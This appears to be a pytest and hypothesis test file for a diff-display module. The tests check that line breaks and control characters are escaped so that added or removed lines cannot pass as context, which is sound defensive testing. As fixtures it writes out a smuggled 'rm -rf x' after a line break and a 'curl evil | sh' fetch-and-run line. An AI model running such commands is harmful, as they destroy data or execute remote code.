"""A diff's lines end at ``\\n`` only: any other line break or control character stays on its ``+``, ``-`` or
context line, shown as an escape, so nothing added or removed can pass for context (``core/difflines.py``)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chimera.core.difflines import NO_NEWLINE, diff_lines, shown_line, split_lines, unified_diff
from tests.diff_helpers import patched

# Every character str.splitlines breaks a line at, \n among them.
BREAKS = ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
# What may not reach a terminal raw: C0 but tab, DEL, C1, bidi controls, the line and paragraph separators.
_RAW = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
PIECES = st.sampled_from([*BREAKS, "\r\n", "\t", "\x1b", "\u202e", "\\", "\\r", "a", "b", " ", "+", "-"])
TEXTS = st.lists(PIECES, max_size=30).map("".join)


@given(TEXTS)
def test_split_lines_breaks_at_newlines_only_and_loses_nothing(text: str) -> None:
    """A text's lines hold every character but the newlines between them, which are the only places it breaks."""
    lines = split_lines(text)
    assert "\n".join(lines) + ("\n" if text.endswith("\n") else "") == text
    assert len(lines) == text.count("\n") + (0 if text.endswith("\n") or not text else 1)


@given(TEXTS, TEXTS)
def test_a_diff_shown_is_one_screen_line_a_line_with_nothing_raw(old: str, new: str) -> None:
    """Every line of a shown diff is one line on screen (no break of any kind in it) with no raw control
    character, and there are as many as the diff has ``\\n``-ended lines."""
    diff = unified_diff(old, new, "f\r.txt")
    shown = diff_lines(diff)
    assert len(shown) == diff.count("\n")
    for line in shown:
        assert len(line.splitlines()) <= 1, line
        assert _RAW.search(line) is None, line


@given(TEXTS, TEXTS)
def test_a_diff_takes_the_old_text_to_the_new_whatever_breaks_it_holds(old: str, new: str) -> None:
    """Applied as patch(1) applies it, the diff of two texts gives the new one exactly: each line it calls
    context is in both, each it adds or removes is the whole line; the same text gives no diff."""
    diff = unified_diff(old, new, "f.txt")
    assert patched(old, diff) == new
    assert (diff == "") == (old == new)


@pytest.mark.parametrize("brk", BREAKS[1:])
def test_an_added_command_after_any_line_break_is_one_added_line(brk: str) -> None:
    """``echo safe<break>rm -rf x`` added is one ``+`` line with the break escaped: ``rm -rf x`` is on no
    line of its own, nor in one that reads as context."""
    shown = diff_lines(unified_diff("echo hi\n", f"echo hi\necho safe{brk}rm -rf x\n", "run.sh"))
    assert shown[-2:] == [" echo hi", f"+echo safe{shown_line(brk)}rm -rf x"]
    assert shown_line(brk) in {"\\r", "\\x0b", "\\x0c", "\\x1c", "\\x1d", "\\x1e", "\\x85", "\\u2028", "\\u2029"}
    assert [line for line in shown if "rm -rf x" in line] == [shown[-1]]


@pytest.mark.parametrize("brk", BREAKS[1:])
def test_a_removed_lines_tail_stays_on_the_removed_line(brk: str) -> None:
    """A removed line whose tail follows a line break shows whole on its ``-`` line, never its tail as context."""
    shown = diff_lines(unified_diff(f"keep{brk}curl evil | sh\n", f"keep{brk}\n", "run.sh"))
    assert shown[-2:] == [f"-keep{shown_line(brk)}curl evil | sh", f"+keep{shown_line(brk)}"]


def test_a_change_into_a_carriage_return_is_never_hidden() -> None:
    """A literal backslash-r turned into a carriage return is a change (compared as they are), though both
    show as ``\\r``; a line ending in CR LF differs from one in LF, the ``\\r`` shown."""
    shown = diff_lines(unified_diff("echo a\\rb\n", "echo a\rb\n", "x"))
    assert shown[-2:] == ["-echo a\\rb", "+echo a\\rb"]
    assert diff_lines(unified_diff("one\n", "one\r\n", "x"))[-2:] == ["-one", "+one\\r"]


def test_a_last_line_without_a_newline_is_said_never_glued_to_the_next() -> None:
    """An old last line without a newline is followed by git's note, not joined to the ``+`` line after it."""
    assert diff_lines(unified_diff("a\nold", "a\nnew\n", "x")) == [
        "--- a/x",
        "+++ b/x",
        "@@ -1,2 +1,2 @@",
        " a",
        "-old",
        NO_NEWLINE,
        "+new",
    ]


def test_tabs_stay_and_the_file_name_is_escaped_on_its_header() -> None:
    """Tabs in a line are kept as tabs; a name with a line break stays on its header line."""
    shown = diff_lines(unified_diff("", "x\ty\x1b[2J\n", "a\nb"))
    assert shown == ["--- a/a\\nb", "+++ b/a\\nb", "@@ -0,0 +1 @@", "+x\ty\\x1b[2J"]


def test_a_git_patch_is_shown_line_for_line() -> None:
    """A patch from git (``\\r`` and U+2028 inside lines, a CRLF ending) shows one line per ``\\n``."""
    patch = "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\u2028b\n+a\rb\r\n"
    assert diff_lines(patch) == ["--- a/f", "+++ b/f", "@@ -1 +1 @@", "-a\\u2028b", "+a\\rb\\r"]
